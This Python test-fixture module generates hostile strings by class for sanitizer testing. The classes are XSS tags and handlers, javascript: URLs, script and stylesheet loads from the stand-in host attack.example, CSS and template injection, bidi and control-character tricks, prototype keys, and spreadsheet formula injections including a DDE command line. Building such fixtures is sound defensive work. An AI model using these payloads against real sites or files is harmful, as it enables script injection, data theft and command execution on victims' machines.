"""Text that attacks: a few hundred strings made from classes of attack, one class a list. Nothing of it is ever run.

An attack that works would call `pwned()` or ask `attack.example` for something: the tests look for both.
"""

from __future__ import annotations

from collections.abc import Mapping
from itertools import product

_CALL = "window.pwned=1;alert(1)"
_AT = "http://attack.example"
# What ends the place in which a text may stand, before the attack proper begins.
_BREAKERS = ("", '">', "'>", "`>", "</title>", "</style>", "</textarea></script>", "-->", "]]>", '\\">', "</mark></p>")
_ELEMENTS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt src={_AT}/a.js></sCrIpT>",
    f"<img src=x onerror={_CALL}>",
    f"<img src={_AT}/a.png srcset='{_AT}/b.png 2x'>",
    f"<svg/onload={_CALL}>",
    f"<svg><script href=data:text/javascript,{_CALL} /></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<math><mi xlink:href=javascript:{_CALL}>x</mi></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<iframe src=javascript:{_CALL}>",
    f"<object data=data:text/html,<script>{_CALL}</script>>",
    f"<embed src={_AT}/a.swf>",
    f"<link rel=stylesheet href={_AT}/a.css>",
    f"<style>@import '{_AT}/a.css';*{{display:none}}</style>",
    f"<meta http-equiv=refresh content='0;url={_AT}/'>",
    f"<base href={_AT}/>",
    f"<form action={_AT}/><button autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video autoplay oncanplay={_CALL}><source src={_AT}/a.mp4></video>",
    f"<body onload={_CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<template shadowrootmode=open><script>{_CALL}</script></template>",
)
_HANDLERS = ("onmouseover", "onfocus", "onclick", "onanimationstart", "onpointerenter", "ONLOAD", "onbeforetoggle")

CLASSES: Mapping[str, tuple[str, ...]] = {
    "elements": tuple(breaker + element for breaker, element in product(_BREAKERS, _ELEMENTS)),
    "handlers": tuple(
        f"{quote} {name}={quote or chr(34)}{_CALL}{quote or chr(34)} autofocus tabindex=1 x={quote}"
        for quote, name in product(('"', "'", "", "`"), _HANDLERS)
    ),
    "addresses": tuple(
        f"{scheme}{_CALL}"
        for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "&#106;avascript:", "vbscript:",
                       "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "javascript&colon;",
                       "//attack.example/")
    ),
    "styles": (
        f"background:url({_AT}/a.png)", f"}}*{{background:url('{_AT}/b.png')}}", "width:expression(alert(1))",
        f"-moz-binding:url({_AT}/x.xml)", f'red;background-image:url("{_AT}/c.png")',
        "</style><script>alert(1)</script>",
        r"\3c script\3e alert(1)", "*/ } body { display:none } /*",
    ),
    "entities": (
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;lt;b&amp;gt;",
        "&#x3C;svg onload=alert(1)&#x3E;", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        r"\u003cscript\u003ealert(1)\u003c/script\u003e", "＜script＞alert(1)＜/script＞", "&nbsp;&zwnj;&bogus;",
    ),
    "templates": (
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %>", "#{7*7}", "{% import os %}",
        "{words}",
        "{0.__class__.__mro__}", "%s%n%(x)s", "$(alert(1))", "@{{7*7}}", "[[${7*7}]]", "{n}{case}{name}", "$\\alpha$",
        "\\href{javascript:alert(1)}{x}", "![x](http://attack.example/m.png)", "[x](javascript:alert(1))",
    ),
    "directions": (
        "\u202egnp.exe", "\u202dabc\u202c", "\u2066left\u2069\u2067right\u2069", "\u2068first", "\u200f\u200e\u061c",
        "קוד \u202e malicious \u202c סוף", "a\u202e\u202e\u202eb", "\u2069\u2069\u202c\u202c",
    ),
    "controls": (
        "nul\x00here", "bell\x07 esc\x1b[31m", "back\x08\x08space", "del\x7f c1\x85\x9b", "line\u2028sep\u2029par",
        "zero\u200bwidth\u2060join\ufeff", "tag\U000e0041\U000e0042", "lone\ud800half", "vertical\x0btab\x0cfeed",
    ),
    "long": ("x" * 3_000, "W" * 400 + "<b>", "é̀" * 300, "漢" * 1_000, "a" + "\u0301" * 200),
    "keys": ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf"),
    "formulas": ("=1+1", "=HYPERLINK(\"http://attack.example\")", "+1+cmd|' /C calc'!A0", "-2+3",
                 "@SUM(1)", "\t=1", "\r=1"),
}  # fmt: skip
STRINGS: tuple[str, ...] = tuple(text for texts in CLASSES.values() for text in texts)
